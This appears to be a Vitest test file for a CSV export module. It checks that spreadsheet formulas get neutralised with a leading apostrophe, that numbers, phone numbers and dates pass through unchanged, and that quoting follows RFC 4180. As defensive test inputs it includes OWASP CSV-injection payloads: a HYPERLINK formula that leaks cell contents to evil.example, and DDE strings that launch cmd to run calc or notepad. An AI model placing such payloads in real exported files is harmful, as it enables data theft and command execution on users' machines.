import { describe, expect, it } from 'vitest';
import { csvField, neutraliseFormula, singleColumnCsv, toCsvText } from './csv';

describe('formula protection', () => {
  // OWASP "CSV Injection" payloads and the cells a spreadsheet would run: each gets a leading '.
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example","click")', `"'=HYPERLINK(""http://evil.example"",""click"")"`],
    [`=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click for details")`, `"'=HYPERLINK(""http://evil.example?leak=""&A1&A2,""Error: click for details"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["=cmd|' /C notepad'!'A1'", "'=cmd|' /C notepad'!'A1'"],
    ['+cmd|" /C calc"!A0', `"'+cmd|"" /C calc""!A0"`],
    ['@SUM(1)', "'@SUM(1)"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['-2+3', "'-2+3"],
    ['+1+1', "'+1+1"],
    ['-1*2', "'-1*2"],
    ['+SUM(1)', "'+SUM(1)"],
    ['-A1', "'-A1"],
    ['+31 6 1234567x', "'+31 6 1234567x"],
    ['+1 555 0100;=1', "'+1 555 0100;=1"],
    ['-', "'-"],
    ['+', "'+"],
    ['- ', "'- "],
    ['+()', "'+()"],
  ])('neutralises %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it.each([
    // Plain numbers, signed or not.
    '-5', '+5', '-12.5', '-3.25', '.5', '-.5', '-1e3', '+2E-4', '5', '-0', '-12345678901234567890',
    // Phone numbers: digits, spaces and . ( ) / - after the sign.
    '+31 6 12345678', '+1 (555) 010-0199', '+49 160 3951300', '+44 20 7946 0958', '+33 1.23.45.67.89',
    '+49 (0)30 123456', '+43 1/234 56 78', '-1 (555) 010-0199', '+3161234567',
    // Dates and text that starts no formula.
    '2026-01-01', '1990-05-12T08:30:00Z', 'plain', 'a=b', ' =1', "'=1", '', 'NL91 ABNA 0417 1643 00',
  ])('leaves %j alone (numbers, phone numbers, dates and text that starts no formula)', (value) => {
    expect(neutraliseFormula(value)).toBe(value);
    expect(csvField(value)).toBe(value);
  });

  it('leaves numbers, booleans and empty cells alone', () => {
    expect(toCsvText([[-5, 1.5, true, null, undefined]])).toBe('-5,1.5,true,,\r\n');
  });

  it('can be turned off', () => {
    expect(csvField('=1+1', { protectFormulas: false })).toBe('=1+1');
    expect(csvField('@x,y', { protectFormulas: false })).toBe('"@x,y"');
  });
});

describe('RFC 4180 writing', () => {
  it('quotes commas, quotes, CR and LF, and ends every record with CRLF', () => {
    expect(toCsvText([['a', 'b,c'], ['say "hi"', 'x\ny'], ['cr\r', '']])).toBe('a,"b,c"\r\n"say ""hi""","x\ny"\r\n"cr\r",\r\n');
  });

  it('writes a one-column list with its header, protecting the values', () => {
    expect(singleColumnCsv('value', ['NL91 ABNA', '=2*3', 'a,b'])).toBe(`value\r\nNL91 ABNA\r\n'=2*3\r\n"a,b"\r\n`);
    expect(singleColumnCsv('value', ['=2*3'], { protectFormulas: false })).toBe('value\r\n=2*3\r\n');
  });
});
